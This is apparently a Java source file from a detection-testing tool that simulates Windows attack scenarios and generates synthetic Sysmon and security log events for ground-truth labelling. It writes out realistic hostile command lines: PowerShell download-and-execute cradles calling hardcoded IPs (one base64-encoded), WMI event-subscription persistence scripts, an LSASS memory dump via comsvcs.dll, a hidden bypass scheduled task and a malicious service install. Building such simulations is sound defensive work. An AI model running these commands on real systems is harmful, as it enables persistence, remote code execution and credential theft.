package org.sigmascope.generate.host;

import java.nio.charset.StandardCharsets;
import java.util.Base64;

import org.sigmascope.generate.event.Injection;
import org.sigmascope.generate.event.Schemas;
import org.sigmascope.generate.scenario.ScenarioKind;
import org.sigmascope.generate.scenario.ScenarioPlan;

/**
 * The scenarios' scripts: what the attacker runs, step by step, on a simulated host. Every event a step causes
 * is marked with the scenario, for the ground truth.
 */
public final class Attacks {
    static final String SYSTEM32 = Boot.SYSTEM32;
    static final String SCRCONS = "C:\\Windows\\System32\\wbem\\scrcons.exe";
    static final String POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe";
    static final String C2 = "185.199.110.153";
    static final String STAGER = "91.215.85.17";

    private final HostSim sim;
    private final Injection mark;

    private Attacks(HostSim sim, Injection mark) {
        this.sim = sim;
        this.mark = mark;
    }

    /** Schedules the scenario at {@code start} on the host. */
    public static void schedule(HostSim sim, ScenarioPlan plan, long start) {
        Attacks attacks = new Attacks(sim, plan.injection());
        ScenarioKind kind = plan.kind();
        switch (kind) {
            case WMI_PERSISTENCE_WMIC -> {
                attacks.step(start, attacks::wmicSubscription);
                attacks.step(start + attacks.minutes(4, 25), () -> attacks.consumerRuns(true));
            }
            case WMI_PERSISTENCE_POWERSHELL -> {
                attacks.step(start, attacks::powershellSubscription);
                attacks.step(start + attacks.minutes(4, 25), () -> attacks.consumerRuns(false));
            }
            case DECOY_WMI_REVERSED -> {
                attacks.step(start, () -> attacks.consumerRuns(true));
                attacks.step(start + attacks.minutes(10, 30), attacks::wmicSubscription);
            }
            case DECOY_WMI_FAR_APART -> {
                attacks.step(start, attacks::wmicSubscription);
                attacks.step(start + attacks.minutes(6 * 60 + 5, 8 * 60), () -> attacks.consumerRuns(true));
            }
            case ENCODED_POWERSHELL -> attacks.step(start, attacks::encodedPowerShell);
            case LSASS_ACCESS -> attacks.step(start, attacks::lsassDump);
            case SCHEDULED_TASK -> attacks.step(start, attacks::scheduledTask);
            case SERVICE_INSTALL -> attacks.step(start, attacks::serviceInstall);
            default -> throw new IllegalArgumentException(kind.toString());
        }
    }

    private void step(long at, Runnable action) {
        sim.inject(mark, at, action);
    }

    private long minutes(int min, int max) {
        return Ticks.MINUTE * min + (long) (sim.random.nextDouble() * Ticks.MINUTE * (max - min));
    }

    private String user() {
        return sim.host.user().name();
    }

    /** The attacker's elevated shell: an administrator's elevated token, or a second logon with an admin account. */
    private SimProcess elevatedShell(long t) {
        LogonSession elevated = sim.elevatedSession;
        if (elevated == null) {
            Account admin = new Account("CORP", "adm-" + user(), sim.host.user().sid().replaceAll("-\\d+$", "-1500"), 0);
            long logonId = 0x800000L + sim.random.nextInt(0x7fffff);
            elevated = new LogonSession(admin, logonId, sim.logonGuid(t, logonId), true);
            sim.logon(t,
                    SecurityEvents.logon(sim.host, Account.SYSTEM, elevated,
                            2, "seclogo", "Negotiate", sim.host.name(), sim.netsvcs.pid(),
                            SYSTEM32 + "svchost.exe", "::1", "0", 0));
            sim.elevatedSession = elevated;
            t += sim.millis(100, 400);
        }
        SimProcess cmd = sim.spawn(sim.explorer, t, SYSTEM32 + "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"",
                "C:\\Windows\\system32\\", elevated, "High");
        sim.spawn(cmd, t + sim.millis(20, 60), SYSTEM32 + "conhost.exe",
                "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "C:\\Windows\\system32\\", elevated, "High");
        return cmd;
    }

    private SimProcess run(SimProcess parent, long at, String image, String commandLine, String integrity,
                           long lifetime) {
        SimProcess p = sim.spawn(parent, at, image, commandLine, parent.directory(), parent.session(), integrity);
        sim.at(at + lifetime, () -> sim.exit(p, sim.now()));
        return p;
    }

    // ---- T1546.003: WMI event subscription --------------------------------------------------------------------

    private static final String WMIC = SYSTEM32 + "wbem\\WMIC.exe";
    private static final String FILTER_QUERY = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE "
            + "TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 "
            + "AND TargetInstance.SystemUpTime < 325";

    private String vbscript() {
        return "Set objShell = CreateObject(\"WScript.Shell\"): objShell.Run \"powershell.exe -nop -w hidden -c "
                + "IEX (New-Object Net.WebClient).DownloadString('http://" + C2 + "/u.ps1')\", 0";
    }

    private void wmicSubscription() {
        long t = sim.now();
        String name = mark.decoy() ? "SCMHealthCheck" : "WindowsUpdateCheck";
        SimProcess cmd = elevatedShell(t);
        Account who = cmd.account();
        String ns = "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH ";
        t += sim.millis(6000, 15000);
        run(cmd, t, WMIC, ns + "__EventFilter CREATE Name=\"" + name + "\", EventNameSpace=\"root\\cimv2\", "
                + "QueryLanguage=\"WQL\", Query=\"" + FILTER_QUERY + "\"", "High", sim.millis(600, 1500));
        wmiFilter(who, t + sim.millis(300, 500), name);
        t += sim.millis(8000, 20000);
        run(cmd, t, WMIC, ns + "ActiveScriptEventConsumer CREATE Name=\"" + name + "\", ScriptingEngine=\"VBScript\", "
                + "ScriptText=\"" + vbscript().replace("\"", "\\\"") + "\"", "High", sim.millis(600, 1500));
        wmiConsumer(who, t + sim.millis(300, 500), name, vbscript());
        t += sim.millis(8000, 20000);
        run(cmd, t, WMIC, ns + "__FilterToConsumerBinding CREATE Filter=\"__EventFilter.Name=\\\"" + name
                + "\\\"\", Consumer=\"ActiveScriptEventConsumer.Name=\\\"" + name + "\\\"\"", "High",
                sim.millis(600, 1500));
        wmiBinding(who, t + sim.millis(300, 500), name, "VBScript", vbscript());
        SimProcess shell = cmd;
        sim.at(t + sim.millis(20_000, 90_000), () -> sim.exit(shell, sim.now()));
    }

    private void powershellSubscription() {
        long t = sim.now();
        String name = "OfficeUpdater";
        String jscript = "var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"cmd.exe /c C:\\\\Users\\\\Public\\\\"
                + "updater.exe\", 0);";
        LogonSession elevated = elevatedShell(t).session();
        t += sim.millis(2000, 5000);
        SimProcess ps = sim.spawn(sim.explorer, t, POWERSHELL, "\"" + POWERSHELL + "\"", "C:\\Windows\\system32\\",
                elevated, "High");
        Account who = ps.account();
        t += sim.millis(10_000, 30_000);
        String filter = "$filter = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments "
                + "@{Name='" + name + "'; EventNameSpace='root\\cimv2'; QueryLanguage='WQL'; Query=\"" + FILTER_QUERY
                + "\"}";
        Effects.scriptBlock(sim, ps, t, filter);
        wmiFilter(who, t + sim.millis(100, 300), name);
        t += sim.millis(5000, 15000);
        Effects.scriptBlock(sim, ps, t, "$consumer = Set-WmiInstance -Namespace root\\subscription -Class "
                + "ActiveScriptEventConsumer -Arguments @{Name='" + name + "'; ScriptingEngine='JScript'; ScriptText='"
                + jscript + "'}");
        wmiConsumer(who, t + sim.millis(100, 300), name, jscript);
        t += sim.millis(5000, 15000);
        Effects.scriptBlock(sim, ps, t, "Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding "
                + "-Arguments @{Filter=$filter; Consumer=$consumer}");
        wmiBinding(who, t + sim.millis(100, 300), name, "JScript", jscript);
        sim.at(t + sim.millis(30_000, 120_000), () -> sim.exit(ps, sim.now()));
    }

    private void wmiFilter(Account who, long at, String name) {
        sysmon(Schemas.SYSMON_WMI_FILTER, at, SysmonEvents.wmiFilter(who, at, "root\\cimv2", name, FILTER_QUERY));
    }

    private void wmiConsumer(Account who, long at, String name, String script) {
        sysmon(Schemas.SYSMON_WMI_CONSUMER, at, SysmonEvents.wmiConsumer(who, at, name, "Script", script));
    }

    private void wmiBinding(Account who, long at, String name, String engine, String script) {
        sysmon(Schemas.SYSMON_WMI_BINDING, at, SysmonEvents.wmiBinding(who, at,
                "ActiveScriptEventConsumer.Name=\\\"" + name + "\\\"", "__EventFilter.Name=\\\"" + name + "\\\""));
        String cause = "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, "
                + "0, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"" + name + "\";\n\tQuery = \""
                + FILTER_QUERY.replace("'", "\\'") + "\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \n"
                + "instance of ActiveScriptEventConsumer\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n"
                + "\tName = \"" + name + "\";\n\tScriptingEngine = \"" + engine + "\";\n\tScriptText = \""
                + script.replace("\\", "\\\\").replace("\"", "\\\"") + "\";\n};";
        sim.emit(Schemas.WMI_CONSUMER_BINDING, at + sim.millis(1, 20), sim.netsvcs.pid(), 1036 + 4L * sim.random.nextInt(8),
                Account.SYSTEM.sid(), null, new Object[] {"//./root/subscription", name,
                    "ActiveScriptEventConsumer=\"" + name + "\"", cause});
    }

    /** The consumer fires: svchost.exe (DcomLaunch) starts scrcons.exe, which runs the script's payload. */
    private void consumerRuns(boolean vbscript) {
        long t = sim.now();
        SimProcess scrcons = sim.spawn(sim.dcomLaunch, t, SCRCONS, "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding",
                "C:\\Windows\\system32\\", sim.systemSession, "System");
        Effects.imageLoad(sim, scrcons, t + sim.millis(40, 90), SYSTEM32 + (vbscript ? "vbscript.dll" : "jscript.dll"));
        t += sim.millis(300, 900);
        if (vbscript) {
            SimProcess ps = run(scrcons, t, POWERSHELL, "powershell.exe -nop -w hidden -c IEX (New-Object "
                    + "Net.WebClient).DownloadString('http://" + C2 + "/u.ps1')", "System", sim.millis(4000, 20000));
            Effects.scriptBlock(sim, ps, t + sim.millis(900, 1500), "IEX (New-Object Net.WebClient).DownloadString("
                    + "'http://" + C2 + "/u.ps1')");
            Effects.connect(sim, ps, t + sim.millis(1500, 2500), C2, 80);
        } else {
            SimProcess cmd = run(scrcons, t, SYSTEM32 + "cmd.exe", "cmd.exe /c C:\\Users\\Public\\updater.exe",
                    "System", sim.millis(3000, 8000));
            SimProcess dropped = run(cmd, t + sim.millis(100, 300), "C:\\Users\\Public\\updater.exe",
                    "C:\\Users\\Public\\updater.exe", "System", sim.millis(2000, 6000));
            Effects.connect(sim, dropped, t + sim.millis(800, 1500), "cdn-updates.example.net", 443);
        }
        sim.at(t + sim.millis(40_000, 90_000), () -> sim.exit(scrcons, sim.now()));
    }

    // ---- T1059.001: encoded PowerShell -----------------------------------------------------------------------

    private void encodedPowerShell() {
        long t = sim.now();
        String doc = "C:\\Users\\" + user() + "\\Downloads\\Invoice_4471.docm";
        SimProcess word = sim.spawn(sim.explorer, t, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"" + doc + "\" /o \"\"",
                "C:\\Users\\" + user() + "\\Downloads\\", sim.userSession, "Medium");
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://" + STAGER + "/a')";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        t += sim.millis(4000, 12000);
        SimProcess ps = run(word, t, POWERSHELL, "powershell.exe -NoP -NonI -W Hidden -Enc " + encoded, "Medium",
                sim.millis(5000, 30000));
        Effects.scriptBlock(sim, ps, t + sim.millis(700, 1200), script);
        Effects.connect(sim, ps, t + sim.millis(1300, 2200), STAGER, 80);
        sim.at(t + sim.millis(60_000, 300_000), () -> sim.exit(word, sim.now()));
    }

    // ---- T1003.001: LSASS memory -----------------------------------------------------------------------------

    private void lsassDump() {
        long t = sim.now();
        SimProcess cmd = elevatedShell(t);
        t += sim.millis(5000, 20000);
        String dump = "C:\\Windows\\Temp\\lsass.dmp";
        SimProcess rundll = run(cmd, t, SYSTEM32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, "
                + "MiniDump " + sim.lsass.pid() + " " + dump + " full", "High", sim.millis(1500, 4000));
        Effects.imageLoad(sim, rundll, t + sim.millis(20, 60), SYSTEM32 + "comsvcs.dll");
        Effects.processAccess(sim, rundll, sim.lsass, t + sim.millis(100, 200), 0x1fffff,
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                        + "C:\\Windows\\System32\\comsvcs.dll+1ad6c|C:\\Windows\\System32\\rundll32.exe+3bc4");
        Effects.fileCreate(sim, rundll, t + sim.millis(250, 600), dump);
        sim.at(t + sim.millis(30_000, 90_000), () -> sim.exit(cmd, sim.now()));
    }

    // ---- T1053.005: scheduled task ---------------------------------------------------------------------------

    private void scheduledTask() {
        long t = sim.now();
        String task = "OneDrive Reporting Task";
        String script = "C:\\Users\\" + user() + "\\AppData\\Roaming\\Microsoft\\odrt.ps1";
        SimProcess cmd = sim.spawn(sim.explorer, t, SYSTEM32 + "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"",
                "C:\\Users\\" + user() + "\\", sim.userSession, "Medium");
        t += sim.millis(5000, 15000);
        String action = "powershell.exe -w hidden -ep bypass -f " + script;
        run(cmd, t, SYSTEM32 + "schtasks.exe", "schtasks /create /tn \"" + task + "\" /tr \"" + action
                + "\" /sc daily /st 09:00 /f", "Medium", sim.millis(300, 900));
        long registered = t + sim.millis(150, 300);
        Effects.registryKey(sim, sim.netsvcs, registered, "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\"
                + "Schedule\\TaskCache\\Tree\\" + task);
        Effects.fileCreate(sim, sim.netsvcs, registered + sim.millis(1, 5), SYSTEM32 + "Tasks\\" + task);
        String date = Ticks.instant(t).toString().substring(0, 19);
        String xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "
                + "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n    "
                + "<Date>" + date + "</Date>\r\n    <Author>CORP\\" + user() + "</Author>\r\n    <URI>\\" + task
                + "</URI>\r\n  </RegistrationInfo>\r\n  <Triggers>\r\n    <CalendarTrigger>\r\n      <StartBoundary>"
                + date.substring(0, 10) + "T09:00:00</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n      "
                + "<ScheduleByDay>\r\n        <DaysInterval>1</DaysInterval>\r\n      </ScheduleByDay>\r\n    "
                + "</CalendarTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n      "
                + "<UserId>" + sim.host.user().sid() + "</UserId>\r\n      <LogonType>InteractiveToken</LogonType>\r\n"
                + "    </Principal>\r\n  </Principals>\r\n  <Actions Context=\"Author\">\r\n    <Exec>\r\n      "
                + "<Command>powershell.exe</Command>\r\n      <Arguments>-w hidden -ep bypass -f " + script
                + "</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>";
        sim.emit(Schemas.SECURITY_TASK_CREATED, registered + sim.millis(2, 8), sim.lsass.pid(), sim.lsass.pid() + 48,
                null, null, SecurityEvents.taskCreated(sim.host, sim.userSession, "\\" + task, xml));
        sim.at(t + sim.millis(20_000, 60_000), () -> sim.exit(cmd, sim.now()));
    }

    // ---- T1543.003: service install --------------------------------------------------------------------------

    private void serviceInstall() {
        long t = sim.now();
        SimProcess cmd = elevatedShell(t);
        t += sim.millis(5000, 20000);
        String service = "WinDefendUpdate";
        String binPath = "cmd.exe /c powershell -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring("
                + "'http://" + STAGER + "/s'))\"";
        run(cmd, t, SYSTEM32 + "sc.exe", "sc create " + service + " binPath= \"" + binPath.replace("\"", "\\\"")
                + "\" start= auto", "High", sim.millis(200, 600));
        long installed = t + sim.millis(80, 200);
        Effects.registryValue(sim, sim.services, installed, "HKLM\\System\\CurrentControlSet\\Services\\" + service
                + "\\ImagePath", binPath);
        sim.emit(Schemas.SERVICE_INSTALLED, installed + sim.millis(1, 5), sim.services.pid(), sim.services.pid() + 132,
                cmd.account().sid(), null, new Object[] {service, binPath, "user mode service", "auto start",
                    "LocalSystem"});
        sim.at(t + sim.millis(20_000, 60_000), () -> sim.exit(cmd, sim.now()));
    }

    private void sysmon(org.sigmascope.generate.event.EventSchema schema, long at, Object[] values) {
        if (sim.host.audit().sysmon()) {
            sim.emit(schema, at, sim.sysmonPid, sim.sysmonThread(), Account.SYSTEM.sid(), null, values);
        }
    }
}
